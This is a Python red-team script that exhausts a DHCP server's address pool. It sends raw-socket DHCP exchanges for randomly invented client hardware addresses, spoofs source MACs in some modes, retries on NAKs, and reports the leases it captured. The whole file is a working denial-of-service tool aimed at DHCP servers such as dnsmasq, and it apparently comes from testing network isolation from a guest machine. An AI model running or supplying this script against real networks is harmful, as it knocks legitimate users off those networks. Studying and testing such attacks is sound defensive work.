"""DHCP pool exhaustion, the attacker's side (red team): a DHCP client on a raw socket
that takes leases for invented client hardware addresses (BOOTP chaddr), as a guest
with root can. Each try is a whole exchange (DISCOVER, OFFER, REQUEST, ACK): dnsmasq
reserves an address only with the ACK. The exchanges run side by side.

    dhcp_flood.py IFACE COUNT MODE [WAIT_S]

MODE: `chaddr`  frames from the interface's own MAC, a new random chaddr each try;
      `mac`     a new random MAC each try, as frame source and chaddr alike;
      `own`     the interface's own MAC as both, COUNT times (a legitimate client).
WAIT_S: seconds to wait for the answers once every DISCOVER is out (default 8).
A NAK (the offered address went to another client meanwhile) starts that client over.
Prints one JSON object: tries, offers, acks, naks and the leases as [chaddr, address].
"""
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(':'))


def mac_text(b):
    return ':'.join('%02x' % x for x in b)


def random_mac():
    # locally administered, unicast
    return bytes([0x02]) + os.urandom(5)


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def frame(src, chaddr, xid, options):
    bootp = struct.pack('!BBBBIHH4s4s4s4s', 1, 1, 6, 0, xid, 0, 0x8000, b'\0' * 4, b'\0' * 4, b'\0' * 4, b'\0' * 4)
    bootp += chaddr + b'\0' * 10 + b'\0' * 192 + b'\x63\x82\x53\x63' + options + b'\xff'
    udp = struct.pack('!HHHH', 68, 67, 8 + len(bootp), 0) + bootp
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), random.randint(0, 0xFFFF), 0, 64, 17, 0,
                     b'\0' * 4, b'\xff' * 4)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return b'\xff' * 6 + src + struct.pack('!H', ETH_P_IP) + ip + udp


def opt(code, value):
    return bytes([code, len(value)]) + value


def answer(sock, deadline):
    """The next DHCP answer before the deadline: (xid, type, yiaddr, server), or None."""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return None
        sock.settimeout(left)
        try:
            data = sock.recv(2048)
        except socket.timeout:
            return None
        if len(data) < 14 + 20 + 8 + 240 or data[12:14] != b'\x08\x00' or data[23] != 17:
            continue
        ihl = (data[14] & 0x0F) * 4
        udp = 14 + ihl
        sport, dport = struct.unpack('!HH', data[udp:udp + 4])
        if sport != 67 or dport != 68:
            continue
        b = data[udp + 8:]
        if b[0] != 2:
            continue
        xid = struct.unpack('!I', b[4:8])[0]
        yiaddr = socket.inet_ntoa(b[16:20])
        i, kind, server = 240, None, None
        while i + 1 < len(b) and b[i] != 0xFF:
            if b[i] == 0:
                i += 1
                continue
            code, n = b[i], b[i + 1]
            if code == 53:
                kind = b[i + 2]
            elif code == 54:
                server = b[i + 2:i + 2 + n]
            i += 2 + n
        return xid, kind, yiaddr, server


def main():
    iface, count, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    wait = float(sys.argv[4]) if len(sys.argv) > 4 else 8.0
    if mode not in ('chaddr', 'mac', 'own'):
        sys.exit('MODE must be chaddr, mac or own, not %r' % mode)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    sock.bind((iface, ETH_P_IP))
    own = mac_bytes(open('/sys/class/net/%s/address' % iface).read().strip())
    out = {'tries': 0, 'offers': 0, 'acks': 0, 'naks': 0, 'leases': []}
    # every DISCOVER goes out first (20 ms apart), the exchanges then run side by side:
    # a server that checks an address (dnsmasq pings it) before it offers it is not
    # waited for one client at a time
    pending = {}
    for _ in range(count):
        chaddr = own if mode == 'own' else random_mac()
        src = chaddr if mode == 'mac' else own
        xid = random.getrandbits(32)
        pending[xid] = (src, chaddr, 'discover')
        out['tries'] += 1
        sock.send(frame(src, chaddr, xid, opt(53, b'\x01')))
        time.sleep(0.02)
    deadline = time.monotonic() + wait
    while pending:
        got = answer(sock, deadline)
        if got is None:
            break
        xid, kind, yiaddr, server = got
        if xid not in pending:
            continue
        src, chaddr, state = pending[xid]
        if kind == 2 and state == 'discover' and server is not None:
            out['offers'] += 1
            pending[xid] = (src, chaddr, 'request')
            sock.send(frame(src, chaddr, xid, opt(53, b'\x03') + opt(50, socket.inet_aton(yiaddr)) + opt(54, server)))
        elif kind == 5 and state == 'request':
            out['acks'] += 1
            out['leases'].append([mac_text(chaddr), yiaddr])
            del pending[xid]
        elif kind == 6 and state == 'request':
            # an offer does not hold the address: another client took it meanwhile; again
            out['naks'] += 1
            del pending[xid]
            if out['naks'] <= 3 * count:
                xid = random.getrandbits(32)
                pending[xid] = (src, chaddr, 'discover')
                sock.send(frame(src, chaddr, xid, opt(53, b'\x01')))
    print(json.dumps(out))


main()
